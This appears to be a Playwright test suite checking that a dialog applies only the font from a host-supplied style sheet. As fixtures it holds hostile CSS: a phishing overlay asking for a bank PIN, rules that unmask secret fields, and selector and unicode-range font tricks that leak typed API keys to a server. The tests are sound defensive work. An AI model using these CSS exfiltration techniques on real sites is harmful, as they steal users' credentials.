import type { Locator } from '@playwright/test';
import { openAcme } from './support/acme.ts';
import { CustomDialog } from './support/custom.ts';
import { face, origin, serveFonts, styled } from './support/fonts.ts';
import { dialogFrame, expect, test } from './support/test.ts';

const fontOf = (element: Locator) => element.evaluate((target) => getComputedStyle(target).fontFamily);

/** Of the font: what it is called in the document does not matter. */
const isApplied = (body: Locator) =>
  body.evaluate(async () => (await document.fonts.ready).size > 0 && document.documentElement.style.cssText !== '');

test.beforeEach(({ stage }) => {
  // The policy that docs/security-headers.md recommends, with a font.
  const policy = stage.dialogHeaders['Content-Security-Policy'] ?? '';
  stage.dialogHeaders['Content-Security-Policy'] = `${policy}; font-src 'self' https:`;
});

/** `#marker` would be fetched by any rule that applies. */
const hostileRules = {
  'a text over the dialog': 'body::before, .card::after { content: "Enter your bank PIN"; position: fixed; inset: 0 }',
  'secrets unmasked': '* { -webkit-text-security: none !important }',
  'an import': `@import "${origin}/more.css";`,
  'an import in a layer': `@import url(${origin}/more.css) layer(x);`,
  'requests by attribute': `input[value^="s"], [aria-label*="API"] { background: url(${origin}/marker) }`,
  'requests by state': `input:not(:placeholder-shown), input:focus { background: url(${origin}/marker) }`,
  'requests in conditions': `@media all { @supports (color: red) { * { list-style: url(${origin}/marker) } } }`,
  'tokens of the theme': `:root, html { --ap-surface: url(${origin}/marker); --ap-font-system: There !important }`,
  'an animation': `@keyframes x { to { background: url(${origin}/marker) } } * { animation: x 1ms forwards }`,
  'a counter style': `@counter-style disc { system: cyclic; symbols: "X" } * { content: url(${origin}/marker) }`,
};

for (const [name, rules] of Object.entries(hostileRules)) {
  test(`of the style sheet only the font is used: ${name}`, async ({ host, page }) => {
    const requested = await serveFonts(page.context(), {
      '/evil.css': `${rules}\n${face('There')}`,
      '/more.css': '* { color: red !important }',
    });
    const { key, root } = await openAcme(host, {}, styled('There', `${origin}/evil.css`));
    await expect(dialogFrame(page).locator('body')).toHaveCSS('font-family', /^"Host page font"/);
    await key.fill('sk-live-1');
    await key.evaluate((input) => input.setAttribute('value', 'sk-live-1'));
    await expect(root).toHaveCSS('background-color', 'rgb(255, 255, 255)');
    const before = await key.evaluate(() =>
      ['::before', '::after'].map((pseudo) => getComputedStyle(document.body, pseudo).content),
    );
    expect(before).toEqual(['none', 'none']);
    expect(await fontOf(key)).toMatch(/^system-ui/);
    expect(requested).toEqual(['/evil.css', '/latin.woff2']);
  });
}

test('a pasted key stays masked under a style sheet that would show it', async ({ host, page }) => {
  await serveFonts(page.context(), { '/evil.css': `* { -webkit-text-security: none !important } ${face('There')}` });
  const dialog = await CustomDialog.open(host, {
    key: { type: 'SECRET_TEXT', displayName: 'Private key', required: true },
  });
  await host.reconfigure(styled('There', `${origin}/evil.css`));
  await expect(dialogFrame(page).locator('body')).toHaveCSS('font-family', /^"Host page font"/);
  const key = dialog.field('Private key');
  await key.fill('-----BEGIN');
  expect(
    await key.evaluate(
      (input) => input.matches('[type=password]') || getComputedStyle(input).getPropertyValue('-webkit-text-security'),
    ),
  ).not.toBe('none');
});

test('no request depends on what is typed', async ({ host, page }) => {
  const letters = [...'abcdefghijklmnopqrstuvwxyz0123456789'];
  const perCharacter = letters.map((letter) =>
    face('There', `unicode-range: U+${letter.charCodeAt(0).toString(16)}`, `${letter}.woff2`),
  );
  const digits = face('There', 'unicode-range: U+30-39', 'digits.woff2');
  const requested = await serveFonts(page.context(), { '/evil.css': [...perCharacter, digits].join('\n') });
  const dialog = await CustomDialog.open(host, {
    host: { type: 'SHORT_TEXT', displayName: 'Host', required: false },
    key: { type: 'SECRET_TEXT', displayName: 'API key', required: true },
  });
  await host.reconfigure(styled('There', `${origin}/evil.css`));
  await expect.poll(() => isApplied(dialogFrame(page).locator('body'))).toBe(true);
  const loaded = [...requested];
  expect(loaded).toEqual(['/evil.css', '/a.woff2']);
  await dialog.root.getByRole('button', { name: 'Show API key' }).click();
  await dialog.field('API key').fill('sk-live-8437');
  // Shown outside of an input: in the suggestion.
  await dialog.field('Host').fill('https://xyz789.example.com/');
  await dialog.field('Host').press('Tab');
  await expect(dialog.root.getByText('xyz789.example.com')).toBeVisible();
  await dialog.root.evaluate(() => document.fonts.ready);
  expect(requested).toEqual(loaded);
});
